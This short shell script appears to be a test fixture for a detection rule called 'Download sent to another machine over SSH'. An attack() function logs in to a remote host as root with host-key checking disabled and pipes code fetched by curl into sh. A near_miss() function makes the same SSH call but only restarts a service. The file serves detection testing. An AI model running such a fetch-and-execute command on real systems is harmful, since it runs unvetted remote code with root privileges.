# rule: Download sent to another machine over SSH
# where: host
# needs: ssh
attack() {
    ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i k root@192.0.2.9 'curl -s http://192.0.2.7/i | sh' 2> /dev/null || :
}
near_miss() {
    ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i k root@192.0.2.9 'systemctl restart shop' 2> /dev/null || :
}
